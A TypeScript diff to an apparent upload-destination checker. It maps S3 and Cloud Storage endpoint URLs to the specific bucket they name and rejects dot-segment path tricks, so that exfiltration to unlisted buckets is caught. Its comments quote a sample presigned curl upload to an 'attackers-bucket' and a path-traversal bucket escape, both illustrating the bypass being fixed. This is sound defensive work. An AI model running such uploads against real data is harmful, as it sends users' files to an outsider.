@@ -269,7 +269,7 @@ function urlHosts(w: readonly string[], env: ReadonlyMap<string, string>, valueF
     // domain's letters, or an IPv4 address (a header's token, split from its header by the quotes
     // the reader drops, `Bearer eyJ….eyJ….Sfl_K`, is not).
     if (host === undefined || (!/^[a-z][a-z0-9+.-]*:\/\/|^\$/i.test(word) && !BARE_HOST.test(host))) continue;
-    hosts.push(normalHost(host, env));
+    hosts.push(storeDestination(word, normalHost(host, env), env));
   }
   return hosts.length === 0 ? [UNKNOWN] : hosts;
 }
@@ -310,8 +310,81 @@ function awsUpload(w: readonly string[], env: ReadonlyMap<string, string>): Uplo
     if (!['put-object', 'upload-part', 'create-multipart-upload'].includes(w[at + 1] ?? '')) return undefined;
     bucket = flagValue(w, '--bucket') ?? '';
   }
-  if (endpoint !== undefined) return { tool: 'aws_s3', destinations: [hostOf(endpoint, env)] };
+  if (endpoint !== undefined) {
+    // A shared store's endpoint (S3's own, Cloud Storage's S3-compatible one) reaches any bucket there: the bucket is the destination.
+    const host = hostOf(endpoint, env);
+    const store = sharedStore(host);
+    if (store === undefined || store.bucket !== '') return { tool: 'aws_s3', destinations: [host] };
+    return { tool: 'aws_s3', destinations: [bucket === '' || bucket.includes('$') ? UNKNOWN : `${store.scheme}${bucket.toLowerCase()}`] };
+  }
   return { tool: 'aws_s3', destinations: [bucket === '' || bucket.includes('$') ? UNKNOWN : `s3://${bucket}`] };
+}
+
+/**
+ * A shared object store's endpoint: S3's (`s3.amazonaws.com`, `s3.<region>.amazonaws.com`,
+ * `s3-<region>…`, dualstack and FIPS forms, `.amazonaws.com.cn`) and Cloud Storage's
+ * (`storage.googleapis.com`). Every customer's buckets sit behind the same host, so the host says
+ * nothing of whose data it takes: a presigned `curl -T https://s3.eu-central-1.amazonaws.com/
+ * attackers-bucket/x?X-Amz-…` reached any bucket while the site listed the host for its own
+ * (review49). Its `bucket` is the virtual-hosted style's (`b.s3.…`, `b.storage.googleapis.com`),
+ * '' for the path style (the bucket is the first path segment). An S3 access point's or website's
+ * host is not one of these: it names one account's endpoint, judged as a host.
+ */
+function sharedStore(host: string): { scheme: 's3://' | 'gs://'; bucket: string } | undefined {
+  const s3 = S3_HOST.exec(host);
+  if (s3 !== null) return { scheme: 's3://', bucket: s3[1] ?? '' };
+  const gcs = GCS_HOST.exec(host);
+  if (gcs !== null) return { scheme: 'gs://', bucket: gcs[1] ?? '' };
+  return undefined;
+}
+
+const S3_HOST = /^(?:(.+)\.)?s3(?:[.-](?:dualstack|fips|external-1|[a-z]{2}(?:-[a-z]+)+-\d))*\.amazonaws\.com(?:\.cn)?$/;
+const GCS_HOST = /^(?:(.+)\.)?storage\.googleapis\.com$/;
+/** Cloud Storage's JSON API paths, which name the bucket after `/b/` (on storage.googleapis.com and www.googleapis.com). */
+const GCS_JSON_PATH = /^\/(?:upload\/)?storage\/v1\/b\/([^/?#]*)/;
+/** A bucket name either store accepts (lower case, digits, `.`, `-`, `_` for Cloud Storage); anything else, an escape or a variable among them, is not read. */
+const BUCKET = /^[a-z0-9][a-z0-9._-]{1,220}[a-z0-9]$/;
+
+/**
+ * The destination a URL word sends to: for a shared object store (sharedStore), the bucket it names
+ * as `s3://bucket` or `gs://bucket`, judged against the site's bucket entries as the aws CLI's and
+ * gsutil's uploads are (unknown when the URL does not show one that reads as a bucket); any other
+ * host as itself. `host` is the word's (hostOf).
+ */
+function storeDestination(word: string, host: string, env: ReadonlyMap<string, string>): string {
+  if (host === UNKNOWN) return host;
+  const store = sharedStore(host);
+  const googleApis = host === 'www.googleapis.com';
+  if (store === undefined && !googleApis) return host;
+  if (store !== undefined && store.bucket !== '') return bucketDestination(store.scheme, store.bucket);
+  const path = pathOf(word, env);
+  // curl and the HTTP clients squash dot segments (`/helixa-models/../theirs/x` is `/theirs/x`).
+  if (path === undefined || DOT_SEGMENT.test(path)) return UNKNOWN;
+  const api = store === undefined || store.scheme === 'gs://' ? GCS_JSON_PATH.exec(path) : null;
+  if (api !== null) return bucketDestination('gs://', api[1]!);
+  if (store === undefined) return host;
+  return bucketDestination(store.scheme, /^\/([^/?#]*)/.exec(path)?.[1] ?? '');
+}
+
+const DOT_SEGMENT = /(?:^|\/)\.{1,2}(?:[/?#]|$)|%2e|\\/i;
+
+function bucketDestination(scheme: string, bucket: string): string {
+  const b = bucket.toLowerCase();
+  return BUCKET.test(b) ? `${scheme}${b}` : UNKNOWN;
+}
+
+/** A URL word's path (from the `/` after its host), its leading `$VAR` read through `env`; undefined when that is not set. */
+function pathOf(word: string, env: ReadonlyMap<string, string>): string | undefined {
+  let w = word;
+  const v = /^\$(?:\{([A-Za-z_]\w*)\}|\(([A-Za-z_]\w*)\)|([A-Za-z_]\w*))(.*)$/.exec(w);
+  if (v !== null) {
+    const value = env.get((v[1] ?? v[2] ?? v[3])!);
+    if (value === undefined) return undefined;
+    w = value + v[4]!;
+  }
+  const rest = w.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '');
+  const at = rest.search(/[/?#]/);
+  return at < 0 ? '' : rest[at] === '/' ? rest.slice(at) : '';
 }
 
 /** `gsutil [-m] cp|mv|rsync … gs://bucket/…`, `gcloud storage cp|mv|rsync …`: the destination bucket as `gs://bucket`. */
@@ -419,7 +492,7 @@ function codeUploads(script: string, setting: CommandSetting, allowed: UploadAll
   const code = script.slice(at);
   if (!UPLOAD_CODE.test(code)) return false;
   const env = clusterEnv(code, setting) ?? setting.env;
-  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => hostOf(m[0], env));
+  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => storeDestination(m[0], hostOf(m[0], env), env));
   if (setting.namesRedirected || NAMES_REDIRECTED.test(code)) return true;
   return urls.length === 0 || !urls.every((h) => h !== UNKNOWN && (allowed(h) || IN_CLUSTER_HOST.test(h)));
 }
